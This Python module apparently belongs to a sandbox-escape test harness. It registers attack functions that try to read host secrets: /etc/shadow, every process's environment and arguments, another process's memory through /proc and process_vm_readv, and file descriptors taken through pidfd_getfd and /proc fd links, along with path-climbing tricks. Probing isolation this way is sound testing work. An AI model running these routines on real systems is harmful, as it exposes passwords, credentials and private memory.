"""Reading what belongs to the host. Each place holds a secret of its own, and the host knows it when it sees it."""

from __future__ import annotations

import contextlib
import ctypes
import os
import struct

from .registry import Scene, attack
from .system import NUMBERS, libc, system_call

_MOST = 1 << 20


def _show(*paths: str) -> object:
    for path in paths:
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            os.write(1, os.read(fd, _MOST) + b"\n")
            os.close(fd)
    return None


@attack("secrets", "read a file of the host")
def host_file(scene: Scene) -> object:
    return _show(f"{scene['outside']}/secret")


@attack("secrets", "read a file of the host by climbing")
def climbing(scene: Scene) -> object:
    up = "/".join([".."] * 32)
    return _show(f"{up}{scene['outside']}/secret", f"/proc/self/root/{up}{scene['outside']}/secret")


@attack("secrets", "read a file of the host through a link in the base")
def link(scene: Scene) -> object:
    return _show("way-out/secret", "protected/../way-out/secret")


@attack("secrets", "read a file of the host through another process")
def through_process(scene: Scene) -> object:
    path = f"{scene['outside']}/secret"
    return _show(*(f"/proc/{pid}/root{path}" for pid in (1, scene["victim"], os.getppid(), "self", "thread-self")))


@attack("secrets", "read a file of the host through another process's folder")
def through_folder(scene: Scene) -> object:
    return _show(f"/proc/{scene['victim']}/cwd/secret", f"/proc/1/cwd{scene['outside']}/secret")


@attack("secrets", "read the environment of the harness")
def own_environment(scene: Scene) -> object:
    """What was inherited."""
    os.write(1, b"\n".join(f"{name}={value}".encode() for name, value in os.environ.items()))
    return None


@attack("secrets", "read the environment of every process")
def environments(scene: Scene) -> object:
    return _show(*(f"/proc/{name}/environ" for name in os.listdir("/proc") if name.isdigit()))


@attack("secrets", "read the arguments of every process")
def arguments(scene: Scene) -> object:
    return _show(*(f"/proc/{name}/cmdline" for name in os.listdir("/proc") if name.isdigit()))


@attack("secrets", "read the memory of a process of the host")
def memory(scene: Scene) -> object:
    """By /proc and by process_vm_readv."""
    pid = scene["victim"]
    with open(f"/proc/{pid}/maps", encoding="utf-8") as f:
        start, end = (int(part, 16) for part in next(r for r in f if "[stack]" in r).split()[0].split("-"))
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        os.write(1, memory.read(end - start))
    room = ctypes.create_string_buffer(end - start)
    local, remote = struct.pack("PN", ctypes.addressof(room), end - start), struct.pack("PN", start, end - start)
    system_call(NUMBERS["process_vm_readv"], pid, local, 1, remote, 1, 0)
    return os.write(1, room.raw)


@attack("secrets", "use descriptors that were inherited")
def descriptors(scene: Scene) -> object:
    """Whatever is open beyond the standard streams, read from its beginning."""
    for fd in range(3, 1024):
        with contextlib.suppress(OSError):
            os.write(1, os.pread(fd, 4096, 0))
    return None


@attack("secrets", "take a descriptor out of a process of the host")
def take_descriptor(scene: Scene) -> object:
    process = os.pidfd_open(scene["victim"])
    for number in range(3, 512):
        with contextlib.suppress(OSError):
            os.write(1, os.pread(system_call(NUMBERS["pidfd_getfd"], process, number, 0), 4096, 0))
    return None


@attack("secrets", "open the descriptors of a process of the host")
def reopen_descriptor(scene: Scene) -> object:
    return _show(*(f"/proc/{scene['victim']}/fd/{number}" for number in range(3, 512)))


@attack("secrets", "attach shared memory of the host (System V)")
def shared_memory(scene: Scene) -> object:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(scene["segment"], None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError("it cannot be attached")
    return os.write(1, ctypes.string_at(address, 64))


@attack("secrets", "open shared memory of the host (POSIX)")
def posix_memory(scene: Scene) -> object:
    return _show(f"/dev/shm/{scene['shared']}")


@attack("secrets", "read the passwords of the system", control="root")
def passwords(scene: Scene) -> object:
    return _show("/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/proc/1/root/etc/shadow")


@attack("secrets", "read a process's memory through a core dump", limits={"wall_seconds": 10.0})
def core(scene: Scene) -> object:
    """A core would be written where the host's settings say, perhaps outside."""
    import resource

    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    if os.fork() == 0:
        os.abort()
    os.wait()
    return None
